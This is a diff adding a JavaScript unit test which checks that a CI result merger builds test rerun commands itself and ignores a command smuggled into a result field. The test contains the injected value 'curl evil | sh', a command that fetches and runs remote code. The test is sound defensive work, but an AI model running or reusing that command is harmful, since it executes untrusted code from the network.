@@ -160,3 +160,12 @@ test('asks for the newest attempt of a job', () => {
   const parts = [partOf({ job: linux }, [passed('a')])]
   expect(knownJobs(jobs, parts, []).missing).toMatchObject([{ job: windows, state: 'waiting' }])
 })
+
+test('makes the command that runs a test again itself and ignores a command in the part', () => {
+  const part = partOf({ job: linux }, [{ ...failed('test_adds'), producer: 'pytest', suite: ['pytest', 'tests.test_cart'] }])
+  const hostile = JSON.parse(JSON.stringify(part), (_key, value) =>
+    value?.producer === undefined ? value : { ...value, rerun: 'curl evil | sh' },
+  )
+  const { summary, rerunOf } = mergeParts(currentParts([hostile]), unknownJobs)
+  expect(summary.failures.map(({ test }) => rerunOf(test))).toEqual(['pytest tests/test_cart.py::test_adds'])
+})
